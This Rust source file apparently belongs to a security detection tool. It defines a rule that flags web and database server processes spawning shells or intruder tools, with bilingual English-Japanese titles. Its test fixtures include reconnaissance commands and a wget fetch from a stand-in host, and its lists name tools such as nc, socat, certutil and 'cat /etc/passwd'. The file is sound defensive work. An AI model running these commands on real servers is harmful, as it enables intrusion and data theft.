//! A web or database server that starts a shell or a tool it has no business with: what a webshell or a hole in an application looks like from inside.

use std::collections::HashSet;

use abate_model::{Claim, Finding, Severity, Table, Text};

use super::acts::{Acts, Command, Words, each_command};
use crate::examples::process;
use crate::{Context, Detection, Example, Tactic};

/// See the module.
pub static DETECTION: Detection = Detection {
    id: "service-shell",
    title: Text::fixed("Server program started a shell or a tool of attack", "サーバープログラムによるシェル・攻撃ツールの起動"),
    claims: &[Claim::ServiceSpawnedShell],
    techniques: &["T1505.003", "T1190"],
    tactic: Tactic::InitialAccess,
    severity: Severity::High,
    needs: &[Table::ProcessActivity],
    innocent: INNOCENT,
    examples: &[
        Example::hit(
            "PHP's worker starts a shell that looks round",
            "PHP のワーカーがシェルを起動して様子を探る",
            || vec![process(1, "www-data", "/usr/sbin/php-fpm8.2", "sh -c \"id; uname -a\"")],
            &[Claim::ServiceSpawnedShell],
        ),
        Example::hit(
            "the database's user fetches a file",
            "データベースのユーザーがファイルを取得する",
            || vec![process(1, "postgres", "sh", "wget http://203.0.113.7/x")],
            &[Claim::ServiceSpawnedShell],
        ),
        Example::miss(
            "a site that makes thumbnails and sends mail, and a person's shell",
            "サムネイル生成とメール送信を行うサイト、および人のシェル",
            || {
                vec![
                    process(1, "www-data", "/usr/sbin/php-fpm8.2", "sh -c \"convert a.jpg b.jpg\""),
                    process(2, "www-data", "/usr/sbin/php-fpm8.2", "sh -c \"/usr/sbin/sendmail -t -i\""),
                    process(3, "ubuntu", "sshd", "bash -c id"),
                ]
            },
        ),
    ],
    run,
};

const INNOCENT: Text = Text::fixed(
    "Some applications call programs on purpose, and health checks use curl; look at which, and since when.",
    "意図的に外部プログラムを呼ぶアプリケーションや、curl によるヘルスチェックもある。何がいつから呼ばれているかを確認する。",
);
static WORDS: Words = Words {
    title: Text::fixed("on {h}, a server program started a shell or a tool: {t}", "{h}でサーバープログラムがシェルやツールを起動した: {t}"),
    innocent: INNOCENT,
};

/// Server programs, by name.
const SERVERS: &[&str] = &[
    "httpd",
    "apache",
    "nginx",
    "php-fpm",
    "php-cgi",
    "lighttpd",
    "caddy",
    "tomcat",
    "catalina",
    "jetty",
    "w3wp",
    "node",
    "gunicorn",
    "uwsgi",
    "unicorn",
    "puma",
    "mysqld",
    "mariadbd",
    "postgres",
    "sqlservr",
    "mongod",
    "redis-server",
    "elasticsearch",
    "jenkins",
    "java",
];
/// Users that servers run as; by number where Debian and Red Hat give them one.
const USERS: &[&str] =
    &["www-data", "apache", "nginx", "tomcat", "tomcat8", "tomcat9", "postgres", "mysql", "redis", "jenkins", "nobody", "33", "48"];
/// Tools that show the hand of an intruder when a server starts them.
const TOOLS: &[&str] = &[
    "whoami",
    "id",
    "uname",
    "hostname",
    "ifconfig",
    "netstat",
    "ss",
    "wget",
    "curl",
    "nc",
    "ncat",
    "socat",
    "chmod",
    "chattr",
    "crontab",
    "base64",
    "nohup",
    "useradd",
    "passwd",
    "net",
    "net1",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "certutil",
    "powershell",
    "wmic",
    "rundll32",
    "python3 -c",
    "gcc",
    "cat /etc/passwd",
    "pkill",
    "iptables",
];
/// Processes followed, so that a parent's number can be named.
const MAX_PROCESSES: usize = 50_000;

fn run(ctx: &Context<'_>) -> Vec<Finding> {
    // auditd names a parent by number only: servers that were seen to start are remembered by theirs.
    let mut servers: HashSet<(String, u32)> = HashSet::new();
    let mut acts = Acts::default();
    each_command(ctx, &mut |row, command| {
        let host = command.host.unwrap_or_default();
        if let Some(pid) = command.process.pid {
            let key = (host.to_owned(), pid);
            if is_server(&command.name) && servers.len() < MAX_PROCESSES {
                servers.insert(key);
            } else {
                servers.remove(&key);
            }
        }
        let by_number = command.process.parent_pid.is_some_and(|pid| servers.contains(&(host.to_owned(), pid)));
        let by_name = command.parent.is_some_and(|parent| is_server(program_of(&parent.to_ascii_lowercase())));
        let by_user = command.process.login_user.is_none() && command.user.is_some_and(|user| USERS.contains(&user));
        if (by_number || by_name || by_user) && is_telling(command) {
            acts.add(ctx, row, command.host, command.act("shell", Severity::High));
        }
    });
    acts.findings(Claim::ServiceSpawnedShell, &|_| ("T1505.003", &WORDS))
}

fn program_of(parent: &str) -> &str {
    parent.split(' ').next().unwrap_or_default().rsplit(['/', '\\']).next().unwrap_or_default()
}

fn is_server(name: &str) -> bool {
    let name = name.trim_end_matches(".exe").trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    SERVERS.contains(&name)
}

/// A tool of [`TOOLS`]; an interactive shell; what only asks the host itself whether it is well is left out.
fn is_telling(command: &Command<'_>) -> bool {
    let health = command.has(&["http://localhost", "http://127.0.0.1", "https://localhost"]);
    let interactive = ["sh -i", "bash -i", "sh -p"].iter().any(|part| command.line.contains(part));
    let tool = TOOLS.iter().any(|tool| if tool.contains(' ') { command.line.contains(tool) } else { command.calls(&[tool]) });
    (tool && !health) || interactive
}
